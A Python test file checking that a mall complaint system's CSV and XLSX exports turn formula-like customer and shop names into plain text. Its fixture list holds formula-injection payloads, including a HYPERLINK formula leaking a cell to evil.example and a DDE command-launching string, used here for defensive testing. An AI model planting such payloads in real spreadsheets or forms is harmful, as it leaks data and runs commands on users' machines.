"""Exports opened in a spreadsheet never run what someone typed: a cell that starts like a formula
(`=`, `+`, `-`, `@`, a tab or a line break) is text in the XLSX workbook, and starts with `'` in the
CSV file (which a spreadsheet reads as "text as it stands"), for the callback list (customers'
names and e-mails, typed at the desk or on the web form) and the reports (shop names, typed by the
mall's administrators)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
]


@pytest.fixture
def exported(mall):
    """Complaints whose customer names look like formulas, by a shop whose name does too."""
    admin = mall.staff("admin")
    shop = {"shop_name": "=1+1", "floor": "3F", "unit": "3F-099", "active": True}
    assert mall.api.put("/intake/reference/merchants/M-3F-099", json=shop, headers=admin).status_code in (
        200,
        201,
    )
    for name in FORMULAS:
        mall.record(customer={"name": name, "phone": "13912345678"}, merchant_code="M-3F-099")
    return mall


def _cells_of_csv(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _cells_of_xlsx(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("path", "who"),
    [
        ("/reporting/callbacks?month=2026-11", "desk"),
        ("/reporting/reports/monthly?month=2026-11", "ops"),
        ("/reporting/reports/weekly?week=2026-W47", "ops"),
    ],
)
def test_no_exported_cell_is_a_formula(exported, path, who):
    headers = exported.staff(who)
    as_csv = exported.api.get(f"{path}&format=csv", headers=headers)
    as_xlsx = exported.api.get(f"{path}&format=xlsx", headers=headers)
    assert as_csv.status_code == as_xlsx.status_code == 200

    csv_cells = _cells_of_csv(as_csv.data)
    xlsx_cells = _cells_of_xlsx(as_xlsx.data)

    assert [cell for cell in csv_cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert [cell.coordinate for cell in xlsx_cells if cell.data_type == "f"] == []
    # kept, as text
    assert any(cell.startswith("'=1+1") for cell in csv_cells)
    assert any(str(cell.value).startswith("=1+1") for cell in xlsx_cells)
